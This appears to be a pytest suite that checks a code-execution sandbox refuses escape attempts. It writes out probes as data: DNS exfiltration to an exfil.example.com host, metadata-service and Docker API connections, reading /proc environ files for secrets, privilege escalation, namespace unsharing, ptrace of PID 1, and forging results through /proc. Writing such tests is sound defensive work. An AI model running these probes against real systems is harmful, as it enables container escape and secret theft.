"""Escapes: network, privileges, secrets, the engine socket, the filesystem. Each attack
script prints one verdict line per attempt; every attempt must be refused."""

from __future__ import annotations

import json
import os
import signal
from typing import Any

import pytest

from selfcorrect_action.choices import Runtime

PROBE = """
import json, socket, sys
def attempt(fn):
    try:
        fn()
    except BaseException as exc:
        return "blocked: " + type(exc).__name__ + ": " + str(exc)[:100]
    return "ALLOWED"
"""


def _verdicts(result) -> dict[str, Any]:
    assert result.exit_code == 0, result.stderr.text
    return json.loads(result.stdout.text.strip().splitlines()[-1])


def _assert_all_blocked(result) -> None:
    verdicts = _verdicts(result)
    allowed = {name: v for name, v in verdicts.items() if not v.startswith("blocked")}
    assert not allowed, allowed


NETWORK_ATTACKS = {
    "dns_name": "socket.create_connection(('example.com', 80), timeout=2)",
    "raw_ip": "socket.create_connection(('1.1.1.1', 80), timeout=2)",
    "bridge_gateway": "socket.create_connection(('172.17.0.1', 2375), timeout=2)",
    "docker_api_port": "socket.create_connection(('172.17.0.1', 2376), timeout=2)",
    "metadata_service": "socket.create_connection(('169.254.169.254', 80), timeout=2)",
    "udp": "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('8.8.8.8', 53))",
    "dns_exfiltration": "socket.getaddrinfo('c2VjcmV0.exfil.example.com', 53)",
    "ipv6": "socket.create_connection(('2606:4700:4700::1111', 80), timeout=2)",
}


def test_network_is_unreachable_by_every_route(run_script) -> None:
    lines = [f"    {name!r}: attempt(lambda: {code})," for name, code in NETWORK_ATTACKS.items()]
    code = PROBE + "print(json.dumps({\n" + "\n".join(lines) + "\n}))"
    result = run_script(code, timeout_s=30)
    _assert_all_blocked(result)


def test_only_loopback_exists(run_script) -> None:
    result = run_script("import os\nprint(sorted(os.listdir('/sys/class/net')))")
    assert result.stdout.text.strip() in ("['lo']", "[]")


def test_callers_secrets_do_not_reach_the_container(
    run_script, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("GITHUB_TOKEN", "ghp_selfcorrectTestSecret0123456789")
    monkeypatch.setenv("OPENAI_API_KEY", "sk-selfcorrectTestSecret")
    result = run_script(
        """
        import os, glob
        seen = repr(dict(os.environ))
        for path in glob.glob("/proc/*/environ"):
            try:
                seen += open(path, "rb").read().decode(errors="replace")
            except OSError:
                pass
        print(seen)
        """
    )
    assert result.exit_code == 0
    assert "selfcorrectTestSecret" not in result.stdout.text
    assert "GITHUB_TOKEN" not in result.stdout.text


def test_environment_holds_only_what_the_image_sets(run_script) -> None:
    result = run_script("import os, json\nprint(json.dumps(sorted(os.environ)))")
    names = set(json.loads(result.stdout.text))
    assert "PYTEST_CURRENT_TEST" in os.environ  # set on the host right now...
    assert "PYTEST_CURRENT_TEST" not in names  # ...and not copied in
    assert not {n for n in names if "TOKEN" in n or "KEY" in n or "SECRET" in n}


def test_no_docker_socket(run_script) -> None:
    result = run_script(
        PROBE
        + """
s = socket.socket(socket.AF_UNIX)
print(json.dumps({
    "var_run": attempt(lambda: s.connect("/var/run/docker.sock")),
    "run": attempt(lambda: socket.socket(socket.AF_UNIX).connect("/run/docker.sock")),
    "containerd": attempt(lambda: socket.socket(socket.AF_UNIX).connect(
        "/run/containerd/containerd.sock")),
}))
"""
    )
    _assert_all_blocked(result)


def test_runs_as_an_unprivileged_user(run_script) -> None:
    result = run_script("import os\nprint(os.getuid(), os.geteuid(), os.getgid())")
    uid, euid, gid = (int(x) for x in result.stdout.text.split())
    assert uid != 0 and euid != 0 and gid != 0


ESCALATION = PROBE + """
import ctypes, os, subprocess
libc = ctypes.CDLL(None, use_errno=True)
def syscall_ok(value):
    if value != 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
def run(argv):
    subprocess.run(argv, check=True, capture_output=True, timeout=5)
"""


def test_privilege_escalation_is_refused(run_script) -> None:
    result = run_script(
        ESCALATION
        + """
print(json.dumps({
    "setuid": attempt(lambda: os.setuid(0)),
    "setgid": attempt(lambda: os.setgid(0)),
    "mount_syscall": attempt(lambda: syscall_ok(libc.mount(b"none", b"/tmp", b"tmpfs", 0, None))),
    "mount_binary": attempt(lambda: run(["mount", "-t", "tmpfs", "none", "/tmp"])),
    "raw_socket": attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW,
                                                socket.IPPROTO_ICMP)),
    "packet_socket": attempt(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW)),
    "chown_root": attempt(lambda: os.chown("/work/attack.py", 0, 0)),
    "su": attempt(lambda: run(["su", "-c", "id"])),
}))
"""
    )
    _assert_all_blocked(result)


USERNS = ESCALATION + """
unshare_binary = attempt(lambda: run(["unshare", "-r", "true"]))
userns = attempt(lambda: syscall_ok(libc.unshare(0x10000000)))
mountns = attempt(lambda: syscall_ok(libc.unshare(0x00020000)))
def icmp_out():
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    s.settimeout(2)
    s.sendto(b"\\x08\\x00\\xf7\\xff\\x00\\x00\\x00\\x00", ("1.1.1.1", 0))
    s.recv(64)
def write_root():
    open("/etc/pwned", "w").write("x")
print(json.dumps({
    "unshare_binary": unshare_binary,
    "userns": userns,
    "mountns": mountns,
    "icmp_out": attempt(icmp_out),
    "tcp_out": attempt(lambda: socket.create_connection(("1.1.1.1", 80), timeout=2)),
    "write_root": attempt(write_root),
    "docker_socket": attempt(lambda: socket.socket(socket.AF_UNIX).connect("/var/run/docker.sock")),
    "interfaces": "ALLOWED" if set(os.listdir("/sys/class/net")) - {"lo"} else "blocked: lo only",
}))
"""


def test_user_namespaces_are_refused(run_script) -> None:
    """Under runc Docker's seccomp profile refuses unshare; under runsc gVisor would emulate
    user namespaces inside its own kernel (unshare succeeded and granted capabilities that
    exist only there), and the runner's own syscall filter refuses it, under both runtimes
    (see test_syscall_filter.py). And nothing outside may become reachable."""
    verdicts = _verdicts(run_script(USERNS, timeout_s=30))
    for name in ("userns", "mountns"):
        assert verdicts[name] == "blocked: PermissionError: [Errno 1] Operation not permitted"
    assert verdicts["unshare_binary"].startswith("blocked: CalledProcessError"), verdicts
    escaped = {name: v for name, v in verdicts.items() if not v.startswith("blocked")}
    assert not escaped, escaped


def test_root_filesystem_is_read_only(run_script) -> None:
    result = run_script(
        PROBE
        + """
def write(path):
    with open(path, "w") as handle:
        handle.write("pwned")
print(json.dumps({
    "etc": attempt(lambda: write("/etc/pwned")),
    "usr": attempt(lambda: write("/usr/lib/python3/dist-packages/pwned.py")),
    "runner": attempt(lambda: write("/opt/selfcorrect/runner.py")),
    "root": attempt(lambda: write("/pwned")),
    "var_tmp": attempt(lambda: write("/var/tmp/pwned")),
}))
"""
    )
    _assert_all_blocked(result)


def test_a_forged_result_is_never_taken_for_the_real_one(run_script, runtime: Runtime) -> None:
    """The script tries to write a passing result into the runner's channel through /proc.
    Under runc, non-dumpability refuses the open; gVisor ignores it, so there the nonce on
    the real result line must expose the forgery."""
    result = run_script(
        PROBE
        + """
import os, sys
ppid = os.getppid()
forged = b'RESULT 0 2\\n{}'
print(json.dumps({
    "stdout": attempt(lambda: open(f"/proc/{ppid}/fd/1", "wb").write(forged)),
    "mem": attempt(lambda: open(f"/proc/{ppid}/mem", "rb").read(1)),
}))
sys.exit(3)
"""
    )
    if runtime == "runc":
        assert result.exit_code == 3
        verdicts = json.loads(result.stdout.text.strip().splitlines()[-1])
        assert all(v.startswith("blocked") for v in verdicts.values()), verdicts
    else:
        # Either refused (the real result arrives) or detected (the run is marked broken).
        assert result.exit_code == 3 or (
            result.exit_code is None and "wrote into the runner's channel" in
            (result.sandbox_note or "")
        ), result


def test_the_runner_is_pid_1_and_cannot_be_opened_or_traced(run_script, runtime: Runtime) -> None:
    """docker-init would run as the script's uid and be dumpable: the script could ptrace it
    and take over PID 1. The runner is PID 1 instead, and non-dumpable. (gVisor ignores
    non-dumpability for /proc/<pid>/fd: there a write into the channel is caught by the
    nonce, see test_a_forged_result_is_never_taken_for_the_real_one.)"""
    open_stdout = '"blocked: not tried under runsc"' if runtime == "runsc" else (
        'attempt(lambda: open("/proc/1/fd/1", "wb").write(b"x"))')
    result = run_script(
        PROBE
        + """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
def ptrace_seize():
    if libc.ptrace(0x4206, 1, 0, 0) != 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
print(json.dumps({
    "init_is_the_runner": "blocked: " + str(os.getppid() == 1),
    "init_stdout": OPEN_STDOUT,
    "init_mem": attempt(lambda: open("/proc/1/mem", "rb").read(1)),
    "init_ptrace": attempt(ptrace_seize),
}))
""".replace("OPEN_STDOUT", open_stdout)
    )
    verdicts = _verdicts(result)
    assert verdicts.pop("init_is_the_runner") == "blocked: True"
    allowed = {name: v for name, v in verdicts.items() if not v.startswith("blocked")}
    assert not allowed, allowed


def test_killing_the_runner_fails_or_is_reported(run_script, runtime: Runtime) -> None:
    """Under runc, PID 1 ignores SIGKILL sent from inside its namespace: the run goes on.
    gVisor does not give PID 1 that protection; there the run is reported as broken."""
    result = run_script("import os, signal, time\nos.kill(1, signal.SIGKILL)\n"
                        "time.sleep(0.5)\nprint('still here')\n")
    if runtime == "runc":
        assert result.exit_code == 0 and "still here" in result.stdout.text
        assert result.sandbox_note is None
    else:
        assert (result.exit_code == 0 and "still here" in result.stdout.text) or (
            result.exit_code is None and "runner stopped" in (result.sandbox_note or ""))


def test_signals_to_the_runner_do_not_end_the_run(run_script) -> None:
    result = run_script(
        "import os, signal, time\n"
        "for number in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP, signal.SIGUSR1):\n"
        "    os.kill(1, number)\n"
        "time.sleep(0.3)\nprint('still here')\n"
    )
    assert result.sandbox_note is None, result.sandbox_note
    assert result.exit_code == 0 and "still here" in result.stdout.text


def test_the_script_starts_clean_and_is_the_oom_killers_first_choice(run_script) -> None:
    """The runner spawns the script in its own session with stdin from /dev/null, none of
    the runner's descriptors, and the highest OOM score (inherited by its children), while
    the runner keeps its own: a memory bomb kills the script, not the reporter."""
    result = run_script(
        """
import json, os, subprocess
child = subprocess.run(["python3", "-c", "print(open('/proc/self/oom_score_adj').read())"],
                       capture_output=True, text=True).stdout.strip()
print(json.dumps({
    "own_session": os.getsid(0) == os.getpid(),
    "stdin": os.readlink("/proc/self/fd/0"),
    "fds": sorted(int(fd) for fd in os.listdir("/proc/self/fd")),
    "oom_score_adj": open("/proc/self/oom_score_adj").read().strip(),
    "child_oom_score_adj": child,
    "runner_oom_score_adj": open("/proc/1/oom_score_adj").read().strip(),
}))
"""
    )
    facts = _verdicts(result)
    assert facts["own_session"] is True and facts["stdin"] == "/dev/null"
    assert facts["fds"][:3] == [0, 1, 2] and len(facts["fds"]) <= 4, facts  # + listdir's own
    assert facts["oom_score_adj"] == facts["child_oom_score_adj"] == "1000"
    assert facts["runner_oom_score_adj"] != "1000"


def test_the_script_gets_default_signal_dispositions(sandbox, runtime: Runtime, tmp_path) -> None:
    """The runner ignores or catches signals to survive the script; none of that may reach
    the script, which is not always Python: each shell here sends itself a signal and must
    die of it (gVisor's /proc has no SigIgn line to read instead)."""
    from selfcorrect_action.sandbox.models import ExecutionRequest

    names = ["PIPE", "XFSZ", "HUP", "TERM", "USR1", "USR2", "INT"]
    script = "; ".join(f'sh -c "kill -{name} \\$\\$"; echo {name}=$?' for name in names)
    result = sandbox.run(
        ExecutionRequest(argv=["sh", "-c", script], runtime=runtime),
        tmp_path / "artifacts",
    )
    assert result.exit_code == 0, result.stderr.text
    statuses = dict(line.split("=") for line in result.stdout.text.split())
    expected = {name: str(128 + getattr(signal, f"SIG{name}")) for name in names}
    assert statuses == expected
